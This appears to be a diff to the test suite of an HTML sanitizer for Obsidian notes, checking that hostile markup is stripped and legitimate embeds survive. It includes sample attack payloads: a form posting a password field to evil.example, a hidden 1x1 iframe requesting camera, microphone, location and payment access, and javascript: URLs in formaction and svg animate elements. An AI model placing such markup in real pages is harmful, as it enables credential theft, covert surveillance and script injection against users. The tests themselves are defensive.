@@ -32,7 +32,12 @@ describe('nothing that runs survives', () => {
     ['a link element', '<link rel="stylesheet" href="https://evil.example/x.css">', /<link/i],
     ['a formaction', '<button formaction="javascript:alert(1)">x</button>', /formaction|alert/i],
     ['an svg animate to javascript:', '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>', /animate|javascript/i],
-    ['a text input', '<input type="text" name="password">', /type="text"|name=/i],
+    ['a text input (gone, not made a task box)', '<form action="https://evil.example"><input name=p></form> <input type="text" name="password">', /<input|name=/i],
+    [
+      'a frame asking for the camera, microphone, location or payment, or telling the framed site the page',
+      '<iframe src="https://evil.example/cam" allow="camera *; microphone *; geolocation *; display-capture *; clipboard-read *; payment *; usb *; serial *" referrerpolicy="unsafe-url" width="1" height="1"></iframe>',
+      /camera|microphone|geolocation|capture|clipboard|payment|usb|serial|unsafe-url|referrerpolicy|allow=/i,
+    ],
   ];
   it.each(hostile)('%s', (_name, body, forbidden) => {
     expect(render(body)).not.toMatch(forbidden);
@@ -48,6 +53,12 @@ describe('what Obsidian users legitimately write stays', () => {
     ['a data: image', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">', ['src="data:image/png;base64,iVBORw0KGgo="']],
     ['span and div with class and style', '<div class="box" style="color: red"><span class="tag" style="font-weight: bold">x</span></div>', ['<div class="box" style="color:red">', '<span class="tag" style="font-weight:bold">x</span>']],
     ['an https video iframe', '<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315" allowfullscreen></iframe>', ['<iframe src="https://www.youtube-nocookie.com/embed/abc"', 'allowfullscreen']],
+    [
+      "a YouTube embed's own allow list and referrer policy",
+      '<iframe src="https://www.youtube.com/embed/abc" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share; camera" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>',
+      ['allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share"', 'referrerpolicy="strict-origin-when-cross-origin"'],
+    ],
+    ['a checkbox written as HTML, shown as a box no one can tick', '<input type="checkbox" checked>', ['<input type="checkbox" checked disabled />']],
     ['audio and video', '<audio controls src="https://example.com/a.mp3"></audio><video controls width="320"><source src="https://example.com/v.mp4" type="video/mp4"></video>', ['<audio controls', '<video controls', '<source src="https://example.com/v.mp4" type="video/mp4"']],
     ['https and mailto links, opened in a new tab safely', '<a href="https://example.com" target="_blank">x</a> <a href="mailto:a@b.c">m</a>', ['href="https://example.com"', 'rel="noopener noreferrer"', 'href="mailto:a@b.c"']],
   ];
